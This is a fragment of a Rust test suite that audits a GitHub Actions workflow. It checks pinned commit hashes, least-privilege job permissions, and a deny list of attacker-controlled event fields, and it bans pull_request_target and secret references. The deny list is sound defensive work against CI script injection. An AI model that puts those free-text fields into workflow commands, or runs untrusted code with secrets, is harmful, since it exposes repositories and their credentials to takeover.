            assert!(commit.len() == 40 && commit.bytes().all(|byte| byte.is_ascii_hexdigit()), "{name}: {action}");
        }
    }
    assert!(scripts > 5);
}

#[test]
fn the_workflow_gives_each_job_what_it_needs_alone() {
    let workflow = yaml(".github/workflows/propose.yml");
    let source = fs::read_to_string(repository().join(".github/workflows/propose.yml")).unwrap();
    assert_eq!(workflow.get("permissions").unwrap().value, Value::Table(Vec::new()));
    let read = workflow.get("jobs").and_then(|jobs| jobs.get("read")).unwrap();
    let Value::Table(permissions) = &read.get("permissions").unwrap().value else { panic!("not a table") };
    // The job that compiles, and reads what a stranger writes, cannot write.
    let permissions: Vec<(&str, &str)> =
        permissions.iter().map(|(key, value)| (key.name.as_str(), value.as_str().unwrap())).collect();
    assert_eq!(permissions, [("contents", "read")]);
    for form in FORMS {
        assert!(source.contains(&format!("'{}'", form.label)), "{}", form.label);
    }
    // Fields of an event that hold free text.
    for field in ["issue.body", "issue.title", "comment", "user.login", "head_ref", "label.name"] {
        assert!(!source.contains(&format!("github.event.{field}")), "{field}");
    }
    assert!(!source.contains("pull_request_target") && !source.contains("secrets."));
}
